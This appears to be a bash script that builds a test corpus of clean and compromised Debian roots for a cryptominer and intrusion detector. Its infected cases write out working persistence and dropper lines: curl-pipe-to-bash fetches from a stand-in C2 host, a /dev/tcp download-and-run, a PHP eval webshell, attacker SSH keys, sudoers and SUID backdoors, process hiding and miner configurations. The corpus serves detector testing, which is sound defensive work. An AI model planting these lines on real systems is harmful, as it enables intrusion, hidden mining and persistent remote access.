#!/usr/bin/env bash
# Builds the detection corpus: variants of one clean Debian root, each either an
# ordinary server (clean) or one intrusion (infected), as the cases in
# images/corpus/cases.json describe them. The corpus test scans every variant and
# reports precision and recall; a rule that raises a false alarm on a clean variant,
# or stops finding an intrusion, fails it.
#
#   images/build-corpus.sh DEBIAN_ROOT OUT CASE...
#
# Each case becomes OUT/CASE, a hard-linked copy of DEBIAN_ROOT (a second or so, no
# extra space) with the case's files written over it. Hard links share inodes with
# DEBIAN_ROOT, so every write below goes through put/append/replace, which unlink the
# path first: an in-place write would change the shared root.
#
# The intrusions vary names and places on purpose (no family's documented paths): they
# are what minescan must find by behaviour. Programs are harmless stand-ins carrying
# the strings a real build carries. Addresses are from the documentation ranges.
set -euo pipefail

root=${1:?usage: build-corpus.sh DEBIAN_ROOT OUT CASE...}
out=${2:?usage: build-corpus.sh DEBIAN_ROOT OUT CASE...}
shift 2
here=$(cd "$(dirname "$0")" && pwd)
# Real Debian packages some cases install (images/fetch-debs.sh), cached beside the root.
debs=${MINESCAN_CORPUS_DEBS:-$(dirname "$root")/minescan-corpus-debs}

WALLET=4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK
C2=203.0.113.9

put() { # put PATH MODE <<<content   (PATH inside the case root)
  mkdir -p "$(dirname "./$1")"
  rm -f "./$1"
  cat > "./$1"
  chmod "$2" "./$1"
}

append() { # append PATH <<<content   (keeps the original content, on a new inode)
  local tmp
  tmp=$(mktemp)
  if [ -e "./$1" ]; then cat "./$1" > "$tmp"; fi
  cat >> "$tmp"
  local mode=0644
  if [ -e "./$1" ]; then mode=$(stat -c %a "./$1"); fi
  mkdir -p "$(dirname "./$1")"
  rm -f "./$1"
  cp "$tmp" "./$1"
  chmod "$mode" "./$1"
  rm -f "$tmp"
}

# Installs real Debian packages as dpkg would record them, running none of their
# maintainer scripts: the files (each on a new inode, so the shared root is untouched),
# info/PKG.md5sums from the package, info/PKG.list, info/PKG.conffiles, and a status
# stanza with the conffiles' digests. The rules then meet the lines Debian ships, in
# files whose digests match the package database.
install_packages() { # install_packages PACKAGE...
  local deb tmp pkg
  for deb in $("$here/fetch-debs.sh" "$debs" "$@"); do
    tmp=$(mktemp -d)
    dpkg-deb -e "$deb" "$tmp/DEBIAN"
    dpkg-deb -x "$deb" "$tmp/tree"
    pkg=$(sed -n 's/^Package: //p' "$tmp/DEBIAN/control")
    # File by file: a directory of the package may be a link in the root (merged /usr: /lib).
    (cd "$tmp/tree" && find . ! -type d -print0) | while IFS= read -r -d '' f; do
      mkdir -p "$(dirname "./$f")"
      rm -f "./$f"
      cp -a "$tmp/tree/$f" "./$f"
    done
    put "var/lib/dpkg/info/$pkg.md5sums" 0644 < "$tmp/DEBIAN/md5sums"
    dpkg-deb --fsys-tarfile "$deb" | tar -t | sed -e 's#^\./#/#' -e 's#^/$#/.#' -e 's#\(.\)/$#\1#' | put "var/lib/dpkg/info/$pkg.list" 0644
    if [ -f "$tmp/DEBIAN/conffiles" ]; then put "var/lib/dpkg/info/$pkg.conffiles" 0644 < "$tmp/DEBIAN/conffiles"; fi
    {
      echo
      sed -e '/^Package: /a Status: install ok installed' "$tmp/DEBIAN/control"
      if [ -f "$tmp/DEBIAN/conffiles" ]; then
        echo 'Conffiles:'
        sed -n 's#^\(remove-on-upgrade \)\{0,1\}\(/.*\)$#\2#p' "$tmp/DEBIAN/conffiles" | while read -r f; do
          if [ -f "./$f" ]; then echo " $f $(md5sum < "./$f" | cut -d' ' -f1)"; else echo " $f newconffile"; fi
        done
      fi
      echo
    } | append var/lib/dpkg/status
    rm -rf "$tmp"
  done
}

link() { # link TARGET PATH
  mkdir -p "$(dirname "./$2")"
  rm -f "./$2"
  ln -s "$1" "./$2"
}

# A stand-in for an XMRig build: an ELF header, then the strings the real binary's
# .rodata carries (version banner, donation host, algorithms, option help).
xmrig_standin() { # xmrig_standin PATH
  mkdir -p "$(dirname "./$1")"
  rm -f "./$1"
  {
    printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000\002\000\076\000'
    head -c 4096 /dev/zero
    printf '%s\0' 'XMRig 6.21.0' 'built on Oct 12 2023 with GCC' ' * ABOUT        XMRig/6.21.0 gcc/9.3.0' \
      'donate.v2.xmrig.com' 'donate.ssl.xmrig.com' 'stratum+tcp://' 'stratum+ssl://' 'rx/0' 'cn/r' 'randomx' \
      'cryptonight' '--donate-level=N       donate level, default 1%%' '--randomx-1gb-pages' \
      'Usage: xmrig [OPTIONS]' '"donate-over-proxy"' 'nicehash'
    head -c 2048 /dev/zero
  } > "./$1"
  chmod 0755 "./$1"
}

# An ordinary program no package owns (a stand-in for an admin's own build).
plain_elf() { # plain_elf PATH TEXT
  mkdir -p "$(dirname "./$1")"
  rm -f "./$1"
  { printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000\002\000\076\000'; head -c 1024 /dev/zero; printf '%s\0' "$2"; } > "./$1"
  chmod 0755 "./$1"
}

# A shared object (ET_DYN, no interpreter, no entry point), as `gcc -shared` builds one.
shared_object() { # shared_object PATH TEXT
  mkdir -p "$(dirname "./$1")"
  rm -f "./$1"
  { printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000\003\000\076\000'; head -c 1024 /dev/zero; printf '%s\0' "$2"; } > "./$1"
  chmod 0755 "./$1"
}

xmrig_config() { # xmrig_config PATH POOL
  put "$1" 0644 <<EOF
{
    "api": { "id": null, "worker-id": null },
    "autosave": true,
    "background": true,
    "colors": false,
    "randomx": { "init": -1, "mode": "auto", "1gb-pages": false },
    "cpu": { "enabled": true, "huge-pages": true, "max-threads-hint": 75 },
    "donate-level": 0,
    "pools": [
        {
            "algo": "rx/0",
            "url": "$2",
            "user": "$WALLET",
            "pass": "x",
            "keepalive": true,
            "tls": false
        }
    ],
    "print-time": 60
}
EOF
}

ADMIN_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHbnpgtKt8n3+u8oGwrOmNXFUJtHu3vfLzDZwNq1S6jt alice@laptop'
DEPLOY_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOr5pM2Tg7l1u0WJKqv4fVhX8zQY3bD1c9oJm2nK4eXa ci@deploy'
ATTACKER_KEY='ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC3r8w0gPZk6d9s1eYb4Tq2m5Jx7Vn0cRfLh8aUoWiKjz3pQyB1tX6vGe9Ns2DMlHrO4ckY7bZfA0wIuS5qTnE8dJgV3mLxR1yPhC6oKt2Wa9zBvN4eQs7UiG0lDfMcXr5HjTp8Ob1kAyZnLw3qSv6gIe2uRJx9CmFhV0tKd4Pz7aBNo1sYWlQ5EcXi8GvUr3Tj6MbDk0fHpLyA2nOeSqRw9z4Jt1Vx7gCuK5mIb3hF8aZs0dNlPo6WcYkEr2iTfB9jUyQv1X3Gh4LnMeD7sOa5Rp0Kq8bWtJz root@vps'

# --- clean variants -------------------------------------------------------------

case_clean_stock() { :; }

# What a busy, well-run server carries: monitoring and backup jobs that use curl,
# certbot, application services under /opt, admin and deploy keys, internal host
# names, a restricted sudo rule, and an admin's script that looks for miners.
case_clean_busy_admin() {
  append etc/passwd <<'EOF'
app:x:999:999:app service:/opt/app:/usr/sbin/nologin
deploy:x:1001:1001:Deploy,,,:/home/deploy:/bin/bash
EOF
  append etc/shadow <<'EOF'
app:!:19700::::::
deploy:!:19700:0:99999:7:::
EOF
  put etc/hosts 0644 <<'EOF'
127.0.0.1	localhost
127.0.1.1	web01.example.internal web01
10.0.0.5	db01.internal db01
10.0.0.6	cache01.internal cache01
10.0.0.10	backup.internal
# The following lines are desirable for IPv6 capable hosts
::1     localhost ip6-localhost ip6-loopback
ff02::1 ip6-allnodes
ff02::2 ip6-allrouters
EOF
  put etc/cron.d/healthcheck 0644 <<'EOF'
# Dead man's switch: tell the monitoring service this host is alive.
*/5 * * * * root curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/3f1c0a5e-1b2c-4d5e-8f90-123456789abc
EOF
  put etc/cron.d/backup 0644 <<'EOF'
SHELL=/bin/bash
30 2 * * * root tar czf /var/backups/www-$(date +\%F).tar.gz /var/www && curl -fsS -T /var/backups/www-$(date +\%F).tar.gz --netrc-file /root/.backup-netrc https://backup.example.com/upload/ && find /var/backups -name 'www-*.tar.gz' -mtime +7 -delete
EOF
  put etc/cron.d/certbot 0644 <<'EOF'
# /etc/cron.d/certbot: crontab entries for the certbot package
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

0 */12 * * * root test -x /usr/bin/certbot -a \! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew
EOF
  put etc/cron.d/feed-import 0644 <<'EOF'
15 * * * * app wget -q -O /opt/app/data/feed.xml https://partner.example.com/feed.xml && /usr/bin/node /opt/app/bin/import.js /opt/app/data/feed.xml
EOF
  put etc/cron.hourly/check-miners 0755 <<'EOF'
#!/bin/sh
# Alert when someone runs a miner on this box.
if pgrep -x xmrig >/dev/null 2>&1 || grep -qs xmrig /proc/[0-9]*/cmdline; then
  echo "xmrig found on $(hostname)" | mail -s "miner alert" root
fi
ps aux | grep -v grep | grep -q -i 'xmrig\|minerd' && logger -t check-miners "possible miner"
exit 0
EOF
  put opt/app/server.js 0644 <<'EOF'
const http = require('http');
http.createServer((req, res) => res.end('ok')).listen(8080);
EOF
  put opt/app/bin/import.js 0644 <<'EOF'
const fs = require('fs');
console.log(fs.readFileSync(process.argv[2], 'utf8').length);
EOF
  put etc/systemd/system/app.service 0644 <<'EOF'
[Unit]
Description=Customer web application
After=network-online.target

[Service]
User=app
WorkingDirectory=/opt/app
Environment=NODE_ENV=production
ExecStart=/usr/bin/node /opt/app/server.js
Restart=always

[Install]
WantedBy=multi-user.target
EOF
  link /etc/systemd/system/app.service etc/systemd/system/multi-user.target.wants/app.service
  plain_elf opt/reports/jre/bin/java 'OpenJDK Runtime Environment'
  put opt/reports/reports.jar 0644 <<<'PK'
  put etc/systemd/system/reports.service 0644 <<'EOF'
[Unit]
Description=Nightly reports

[Service]
Type=oneshot
User=app
ExecStart=/opt/reports/jre/bin/java -Xmx512m -jar /opt/reports/reports.jar --output /var/lib/reports
EOF
  put etc/systemd/system/reports.timer 0644 <<'EOF'
[Timer]
OnCalendar=*-*-* 03:00:00
Persistent=true

[Install]
WantedBy=timers.target
EOF
  link /etc/systemd/system/reports.timer etc/systemd/system/timers.target.wants/reports.timer
  put root/.ssh/authorized_keys 0600 <<<"$ADMIN_KEY"
  mkdir -p home/deploy/.ssh
  put home/deploy/.ssh/authorized_keys 0600 <<<"command=\"/usr/local/bin/deploy.sh\",no-pty,no-port-forwarding,no-agent-forwarding $DEPLOY_KEY"
  chown -R 1001:1001 home/deploy
  put usr/local/bin/deploy.sh 0755 <<'EOF'
#!/bin/bash
set -euo pipefail
cd /opt/app
git pull --ff-only
sudo /bin/systemctl restart app
EOF
  put home/deploy/.bashrc 0644 < etc/skel/.bashrc
  append home/deploy/.bashrc <<'EOF'
export PATH="$HOME/.local/bin:$PATH"
alias ll='ls -alF'
EOF
  put home/deploy/.profile 0644 < etc/skel/.profile
  chown -R 1001:1001 home/deploy
  put etc/sudoers.d/deploy 0440 <<'EOF'
deploy ALL=(root) NOPASSWD: /bin/systemctl restart app
EOF
  put etc/profile.d/app-env.sh 0644 <<'EOF'
export APP_ENV=production
EOF
  put etc/ssh/sshd_config.d/10-hardening.conf 0644 <<'EOF'
PasswordAuthentication no
PermitRootLogin prohibit-password
EOF
  put etc/ld.so.conf.d/opt-reports.conf 0644 <<'EOF'
/opt/reports/jre/lib
EOF
  put etc/modules-load.d/k8s.conf 0644 <<'EOF'
overlay
br_netfilter
EOF
  put etc/udev/rules.d/99-serial.rules 0644 <<'EOF'
ACTION=="add", SUBSYSTEM=="tty", KERNEL=="ttyUSB[0-9]*", RUN+="/usr/local/bin/serial-setup.sh %k"
EOF
  put usr/local/bin/serial-setup.sh 0755 <<'EOF'
#!/bin/sh
stty -F "/dev/$1" 115200
EOF
  # Install and admin scripts kept in /root and a home, in the style of the real ones:
  # they download and run code, stop the firewall while they work, and must not alarm.
  put root/install-container-runtime.sh 0755 <<'EOF'
#!/bin/sh
# Installs the container runtime from the vendor's repository.
#   curl -fsSL https://get.example-containers.io -o install-container-runtime.sh
#   sh install-container-runtime.sh [--dry-run]
set -e
DOWNLOAD_URL=${DOWNLOAD_URL:-https://download.example-containers.io}
CHANNEL=stable
dry_run=0
[ "$1" = "--dry-run" ] && dry_run=1
sh_c='sh -c'
if [ "$(id -u)" != 0 ]; then sh_c='sudo -E sh -c'; fi
echo "# Executing install script, channel: $CHANNEL"
$sh_c 'apt-get update -qq >/dev/null'
$sh_c 'DEBIAN_FRONTEND=noninteractive apt-get install -y -qq ca-certificates curl gnupg >/dev/null'
$sh_c "install -m 0755 -d /etc/apt/keyrings"
$sh_c "curl -fsSL \"$DOWNLOAD_URL/linux/debian/gpg\" -o /etc/apt/keyrings/containers.asc"
$sh_c "echo 'deb [signed-by=/etc/apt/keyrings/containers.asc] $DOWNLOAD_URL/linux/debian bookworm $CHANNEL' > /etc/apt/sources.list.d/containers.list"
# The compose plugin's own installer:
curl -fsSL "$DOWNLOAD_URL/compose/install.sh" | sh -s -- --version 2.24.0
ufw disable || true
$sh_c 'apt-get install -y -qq container-runtime container-runtime-cli >/dev/null'
ufw --force enable || true
echo "Done. Run 'sudo usermod -aG containers \$USER' to use it without sudo."
EOF
  put root/bin/prune-backups.sh 0755 <<'EOF'
#!/bin/bash
# Keeps two weeks of backups; run by hand after a restore test.
set -euo pipefail
cd /var/backups
find . -name 'www-*.tar.gz' -mtime +14 -print -delete
history -c
EOF
  put home/deploy/release.sh 0755 <<'EOF'
#!/bin/bash
set -euo pipefail
cd /opt/app
wget -q -O /tmp/release.tgz "https://ci.example.com/artifacts/app-$1.tgz"
tar xzf /tmp/release.tgz -C /opt/app && rm -f /tmp/release.tgz
sudo /bin/systemctl restart app
EOF
  chown 1001:1001 home/deploy/release.sh
  put var/www/html/index.php 0644 <<'EOF'
<?php
$q = isset($_GET['q']) ? $_GET['q'] : '';
echo '<h1>Search</h1><p>You searched for ' . htmlspecialchars($q, ENT_QUOTES) . '</p>';
$data = base64_decode(file_get_contents(__DIR__ . '/banner.b64'));
echo $data;
EOF
}

# A hardened, provisioned server: a firewall script that flushes and reloads rules at
# boot, resolv.conf locked against DHCP, logs truncated by a job, cloud-init's sudoers
# grant, nvm and a Python venv in a user's shell, a proxy for every login, blacklisted
# modules, CUDA libraries, vendor binaries in /usr/local/bin, and an application's
# node_modules with native executables.
case_clean_provisioned() {
  # Debian's own cloud-init and AppArmor, as their packages ship them: the hotplug unit
  # reads its arguments from the socket systemd hands it (`read args <&3`), the init
  # script's help names aa-teardown.
  install_packages cloud-init apparmor
  append etc/passwd <<'EOF'
debian:x:1000:1000:Debian,,,:/home/debian:/bin/bash
EOF
  append etc/shadow <<'EOF'
debian:!:19700:0:99999:7:::
EOF
  put etc/sudoers.d/90-cloud-init-users 0440 <<'EOF'
# Created by cloud-init v. 22.4.2 on Thu, 02 Nov 2023 10:11:12 +0000

# User rules for debian
debian ALL=(ALL) NOPASSWD:ALL
EOF
  put etc/rc.local 0755 <<'EOF'
#!/bin/sh -e
# Firewall: start from a clean table, then allow what this host serves.
iptables -F
iptables -X
iptables -P INPUT DROP
iptables -A INPUT -i lo -j ACCEPT
iptables -A INPUT -m state --state ESTABLISHED,RELATED -j ACCEPT
iptables -A INPUT -p tcp --dport 22 -j ACCEPT
iptables -A INPUT -p tcp --dport 443 -j ACCEPT
exit 0
EOF
  put etc/cron.d/resolv-lock 0644 <<'EOF'
# DHCP keeps rewriting resolv.conf; keep ours.
@reboot root chattr +i /etc/resolv.conf
EOF
  put etc/cron.d/app-logs 0644 <<'EOF'
0 0 * * * root : > /var/log/app/debug.log && find /var/log/app -name '*.gz' -mtime +30 -delete
EOF
  put etc/cron.d/node-exporter-textfile 0644 <<'EOF'
*/1 * * * * root /usr/local/bin/node_exporter_textfile.sh > /var/lib/node_exporter/textfile/app.prom.$$ && mv /var/lib/node_exporter/textfile/app.prom.$$ /var/lib/node_exporter/textfile/app.prom
EOF
  put usr/local/bin/node_exporter_textfile.sh 0755 <<'EOF'
#!/bin/sh
echo "app_up $(pgrep -c -f /opt/app/server.js)"
EOF
  plain_elf usr/local/bin/node_exporter 'node_exporter, a Prometheus exporter for machine metrics'
  plain_elf usr/local/bin/docker-compose 'Docker Compose'
  put etc/systemd/system/node_exporter.service 0644 <<'EOF'
[Unit]
Description=Prometheus node exporter

[Service]
User=nobody
ExecStart=/usr/local/bin/node_exporter --collector.textfile.directory=/var/lib/node_exporter/textfile

[Install]
WantedBy=multi-user.target
EOF
  link /etc/systemd/system/node_exporter.service etc/systemd/system/multi-user.target.wants/node_exporter.service
  put etc/profile.d/proxy.sh 0644 <<'EOF'
export http_proxy=http://proxy.internal:3128
export https_proxy=http://proxy.internal:3128
export no_proxy=localhost,127.0.0.1,.internal
EOF
  put etc/modprobe.d/blacklist-storage.conf 0644 <<'EOF'
# CIS 1.1.1: disable unused filesystems and USB storage
install cramfs /bin/true
install usb-storage /bin/false
blacklist firewire-core
EOF
  put etc/ld.so.conf.d/cuda.conf 0644 <<<'/usr/local/cuda/lib64'
  # SSH moved to one other port and kept to keys: an admin's habit, not an extra way in.
  put etc/ssh/sshd_config.d/20-port.conf 0644 <<<'Port 2222'
  # A vendor's shared object among the libraries, no package's: a library, not a program.
  shared_object usr/local/lib/libvendorcrypto.so.3 'vendor crypto 3.1'
  mkdir -p home/debian
  put home/debian/.bashrc 0644 < etc/skel/.bashrc
  append home/debian/.bashrc <<'EOF'
export NVM_DIR="$HOME/.nvm"
[ -s "$NVM_DIR/nvm.sh" ] && \. "$NVM_DIR/nvm.sh"
[ -s "$NVM_DIR/bash_completion" ] && \. "$NVM_DIR/bash_completion"
source "$HOME/venvs/tools/bin/activate"
alias k=kubectl
EOF
  put home/debian/.ssh/authorized_keys 0600 <<<"$ADMIN_KEY"
  chown -R 1000:1000 home/debian
  plain_elf opt/app/node_modules/@esbuild/linux-x64/bin/esbuild 'esbuild 0.19.2 go1.20.7'
  put opt/app/node_modules/.bin/esbuild 0755 <<'EOF'
#!/usr/bin/env node
require('../@esbuild/linux-x64/bin/esbuild');
EOF
  put opt/app/config.json 0644 <<'EOF'
{ "db": { "url": "postgres://app@db01.internal:5432/app", "pool": { "min": 2, "max": 10 } }, "port": 8080 }
EOF
}

# --- intrusions -----------------------------------------------------------------

case_cron_python_dropper() {
  put var/spool/cron/crontabs/root 0600 <<EOF
*/10 * * * * python3 -c "import urllib.request;exec(urllib.request.urlopen('http://$C2/p.py').read())" >/dev/null 2>&1
EOF
}

case_user_unit_miner() {
  xmrig_standin root/.cache/.dbus/dbus-daemon
  put root/.config/systemd/user/dbus-session.service 0644 <<EOF
[Unit]
Description=D-Bus Session Helper

[Service]
ExecStart=/root/.cache/.dbus/dbus-daemon -o pool.hashvault.pro:443 -u $WALLET -k --tls --cpu-max-threads-hint=60
Restart=always

[Install]
WantedBy=default.target
EOF
  link /root/.config/systemd/user/dbus-session.service root/.config/systemd/user/default.target.wants/dbus-session.service
  put var/lib/systemd/linger/root 0644 </dev/null
}

case_renamed_miner_service() {
  xmrig_standin usr/lib/x86_64-linux-gnu/libnetmon.so.1
  xmrig_config usr/lib/x86_64-linux-gnu/.netmon.json "gulf.moneroocean.stream:10128"
  put etc/systemd/system/network-monitor.service 0644 <<'EOF'
[Unit]
Description=Network Monitor
After=network.target

[Service]
ExecStart=/usr/lib/x86_64-linux-gnu/libnetmon.so.1 --config=/usr/lib/x86_64-linux-gnu/.netmon.json
Restart=always
Nice=10

[Install]
WantedBy=multi-user.target
EOF
  link /etc/systemd/system/network-monitor.service etc/systemd/system/multi-user.target.wants/network-monitor.service
}

case_config_only() {
  xmrig_config var/tmp/.ICE-unix/.x/c.json "stratum+tcp://xmr.2miners.com:2222"
}

case_ld_preload() {
  shared_object usr/local/lib/libprocesshider.so 'readdir process_to_filter kdevtmpfsi'
  put etc/ld.so.preload 0644 <<<'/usr/local/lib/libprocesshider.so'
}

case_sshd_keys_elsewhere() {
  put etc/ssh/sshd_config.d/00-keys.conf 0644 <<'EOF'
AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/.keys/%u
EOF
  put etc/ssh/.keys/root 0600 <<<"$ATTACKER_KEY"
}

case_hosts_blocks_agent() {
  put etc/hosts 0644 <<'EOF'
127.0.0.1	localhost
127.0.0.1	update.aegis.aliyun.com
127.0.0.1	jsrv.aegis.aliyun.com
127.0.0.1	update2.aegis.aliyun.com
::1     localhost ip6-localhost ip6-loopback
EOF
}

case_ps_wrapper() {
  cp -p usr/bin/ps /tmp/minescan-corpus-ps.$$
  rm -f usr/bin/ps
  cp -p /tmp/minescan-corpus-ps.$$ usr/bin/ps.original
  rm -f /tmp/minescan-corpus-ps.$$
  put usr/bin/ps 0755 <<'EOF'
#!/bin/bash
/usr/bin/ps.original "$@" | grep -v -E 'kthreaddk|dbused|xmr'
EOF
}

case_webshell() {
  put var/www/html/wp-content/uploads/2024/05/thumb.php 0644 <<'EOF'
<?php @eval($_POST['cmd']); ?>
EOF
}

case_at_job() {
  put var/spool/cron/atjobs/a0000101b5d1c2 0700 <<EOF
#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
PATH=/usr/sbin:/usr/bin:/sbin:/bin; export PATH
HOME=/root; export HOME
cd /root || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
\${SHELL:-/bin/sh} << 'marcinDELIMITER3a7c1f2e'
curl -fsSL http://$C2/x.sh | bash
marcinDELIMITER3a7c1f2e
EOF
}

case_udev_run() {
  plain_elf dev/shm/.k/kworker 'kworker'
  put etc/udev/rules.d/99-net-helper.rules 0644 <<'EOF'
ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c '/dev/shm/.k/kworker >/dev/null 2>&1 &'"
EOF
}

case_profile_d_miner() {
  xmrig_standin var/tmp/.font-unix/.s/sshd
  xmrig_config var/tmp/.font-unix/.s/config.json "pool.supportxmr.com:3333"
  put etc/profile.d/bash_completion_x.sh 0644 <<'EOF'
(nohup /var/tmp/.font-unix/.s/sshd -c /var/tmp/.font-unix/.s/config.json >/dev/null 2>&1 &)
EOF
}

case_bashrc_dropper() {
  append root/.bashrc <<EOF
(curl -fsSL http://$C2/b.sh || wget -q -O- http://$C2/b.sh) | sh >/dev/null 2>&1 &
EOF
}

case_sudoers_backdoor() {
  put etc/sudoers.d/90-cloud-init-users 0440 <<'EOF'
# Created by cloud-init v. 22.4.2
games ALL=(ALL) NOPASSWD: ALL
EOF
}

case_modprobe_hook() {
  put etc/modprobe.d/pcspkr.conf 0644 <<EOF
install pcspkr /bin/sh -c 'curl -s http://$C2/k.sh | sh'
EOF
  put etc/modules-load.d/pcspkr.conf 0644 <<<'pcspkr'
}

case_rc_local_dev_tcp() {
  put etc/rc.local 0755 <<EOF
#!/bin/bash
exec 3<>/dev/tcp/$C2/80
echo -e "GET /x HTTP/1.0\r\n\r\n" >&3
cat <&3 > /usr/share/.x
chmod +x /usr/share/.x
/usr/share/.x
exit 0
EOF
}

case_competitor_killer() {
  put etc/cron.hourly/0logrotate-helper 0755 <<'EOF'
#!/bin/bash
pkill -f kinsing
pkill -f kdevtmpfsi
ps aux | grep -v grep | grep -E 'xmr|minerd|cryptonight' | awk '{print $2}' | xargs kill -9
systemctl stop aliyun.service
rm -rf /usr/local/aegis
history -c
unset HISTFILE
EOF
}

case_systemd_generator() {
  plain_elf var/tmp/.sysd/upd 'upd'
  put etc/systemd/system-generators/net-gen 0755 <<'EOF'
#!/bin/sh
/var/tmp/.sysd/upd >/dev/null 2>&1 &
EOF
}

case_base64_unit() {
  local payload
  payload=$(printf 'curl -fsSL http://%s/s.sh | bash' "$C2" | base64 -w0)
  put etc/systemd/system/cloud-sync.service 0644 <<EOF
[Unit]
Description=Cloud sync

[Service]
ExecStart=/bin/bash -c 'echo $payload | base64 -d | bash'

[Install]
WantedBy=multi-user.target
EOF
  link /etc/systemd/system/cloud-sync.service etc/systemd/system/multi-user.target.wants/cloud-sync.service
}

case_started_script_chain() {
  put etc/cron.d/sysstat-collect 0644 <<'EOF'
*/15 * * * * root /usr/local/bin/sa-collect
EOF
  put usr/local/bin/sa-collect 0755 <<EOF
#!/bin/bash
cd /var/tmp && wget -q http://$C2/xm -O .xm && chmod +x .xm && ./.xm --donate-level 1 -o $C2:3333 -B
EOF
}

case_miner_behind_innocent_cron() {
  xmrig_standin usr/local/bin/backup-rotate
  put etc/cron.d/backup-rotate 0644 <<'EOF'
*/5 * * * * root /usr/local/bin/backup-rotate --quiet
EOF
}

case_pam_backdoor() {
  local pam=usr/lib/x86_64-linux-gnu/security/pam_unix.so
  cp -p "$pam" /tmp/minescan-corpus-pam.$$
  rm -f "$pam"
  cp -p /tmp/minescan-corpus-pam.$$ "$pam"
  rm -f /tmp/minescan-corpus-pam.$$
  printf 'magic-password-backdoor' >> "$pam"
}

case_hidden_system_binary() {
  plain_elf usr/bin/.sshd 'sshd helper'
  put etc/cron.d/.sshd 0644 <<'EOF'
@reboot root /usr/bin/.sshd
EOF
}

case_ssh_forced_command() {
  put root/.ssh/authorized_keys 0600 <<EOF
$ADMIN_KEY
command="curl -s http://$C2/k | sh" $ATTACKER_KEY
EOF
}

case_cloud_init_per_boot() {
  put var/lib/cloud/scripts/per-boot/10-net-tune 0755 <<EOF
#!/bin/sh
sysctl -qw net.core.somaxconn=1024
(curl -fsSL http://$C2/n.sh || wget -q -O- http://$C2/n.sh) | sh >/dev/null 2>&1 &
EOF
}

# Launch chains a shell follows: cd on one line, ./prog on a later one.
case_cd_then_run() {
  xmrig_standin var/tmp/.X11-unix/.cache/Xorg
  put etc/cron.d/php-sessionclean 0644 <<'EOF'
*/30 * * * * root /usr/local/sbin/sessionclean-extra >/dev/null 2>&1
EOF
  put usr/local/sbin/sessionclean-extra 0755 <<'EOF'
#!/bin/sh
cd /var/tmp/.X11-unix/.cache || exit 0
pgrep -f Xorg-cache >/dev/null && exit 0
nohup ./Xorg --cpu-priority 0 >/dev/null 2>&1 &
EOF
}

# A user's crontab runs ~/bin/..., whose script builds the miner's path on $HOME in a variable.
case_home_var_launcher() {
  append etc/passwd <<<'svc:x:1003:1003:svc,,,:/home/svc:/bin/bash'
  append etc/shadow <<<'svc:!:19700:0:99999:7:::'
  xmrig_standin home/svc/.local/share/.fontconfig/fc-cache
  put var/spool/cron/crontabs/svc 0600 <<'EOF'
@reboot ~/bin/fc-refresh
EOF
  put home/svc/bin/fc-refresh 0755 <<'EOF'
#!/bin/bash
export FC_DIR="$HOME/.local/share/.fontconfig"
readonly FC=$FC_DIR/fc-cache
setsid $FC --background >/dev/null 2>&1 &
EOF
  chown -R 1003:1003 home/svc
}

# root's .bashrc ignores Ctrl-C, then starts a hidden file in root's home through ~/.
case_bashrc_trap_hidden() {
  xmrig_standin root/.systemd-private
  append root/.bashrc <<'EOF'
trap '' INT QUIT
~/.systemd-private >/dev/null 2>&1 &
trap - INT QUIT
EOF
}

# Droppers and launchers at rest: nothing a persistence point runs starts them.
case_dropper_in_tmp() {
  put tmp/.ICE-unix/.x/i.sh 0755 <<EOF
#!/bin/bash
pkill -9 -f 'kdevtmpfsi|kinsing|xmrig'
systemctl stop aliyun.service >/dev/null 2>&1
wget -q http://$C2/d/amd64 -O /tmp/.ICE-unix/.x/kworkerd || curl -s http://$C2/d/amd64 -o /tmp/.ICE-unix/.x/kworkerd
chmod +x /tmp/.ICE-unix/.x/kworkerd
(crontab -l 2>/dev/null; echo "*/7 * * * * curl -fsSL http://$C2/i.sh | sh") | crontab -
chattr +i /var/spool/cron/crontabs/root
EOF
}

case_launcher_in_shm() {
  xmrig_standin dev/shm/.s/kthreadd
  put dev/shm/.s/start 0755 <<EOF
cd /dev/shm/.s
./kthreadd -o pool.minexmr.com:4444 -u $WALLET -p x --background
EOF
}

case_keys_dropper_in_root_cache() {
  put root/.cache/.pkg/update.sh 0700 <<EOF
#!/bin/sh
mkdir -p /root/.ssh
echo "$ATTACKER_KEY" >> /root/.ssh/authorized_keys
chattr +ia /root/.ssh/authorized_keys
curl -s http://$C2/up | bash
EOF
}

case_miner_launcher_in_root() {
  put root/start-xm.sh 0755 <<EOF
#!/bin/bash
nohup /usr/local/games/.cfg/sysmon --url=stratum+tcp://xmr.2miners.com:2222 --user=$WALLET --donate-level=1 >/dev/null 2>&1 &
EOF
}

# Programs disguised as something else: a program named like a library, a program among
# the libraries, SUID root files no package installed, a SUID copy of bash.
case_library_named_program() {
  plain_elf usr/lib/x86_64-linux-gnu/libudev-helper.so.1 'udev helper'
}

case_program_in_libdir() {
  plain_elf usr/lib/x86_64-linux-gnu/sd-pam-helper 'pam helper'
}

case_suid_shell_backdoor() {
  mkdir -p var/lib/dbus
  rm -f var/lib/dbus/.dbus-broker
  cp usr/bin/bash var/lib/dbus/.dbus-broker
  chmod 4755 var/lib/dbus/.dbus-broker
}

case_suid_unowned_helper() {
  plain_elf usr/local/sbin/netdiag 'network diagnostics'
  chmod 4755 usr/local/sbin/netdiag
  rm -f usr/share/man/man1/.manpath
  cp usr/bin/dash usr/share/man/man1/.manpath
  chmod 2755 usr/share/man/man1/.manpath
}

# sudoers drop-ins sudo skips by name: inert, but written where grants go.
case_sudoers_skipped_dropin() {
  put etc/sudoers.d/99-ops.conf 0440 <<'EOF'
www-data ALL=(ALL) NOPASSWD: ALL
EOF
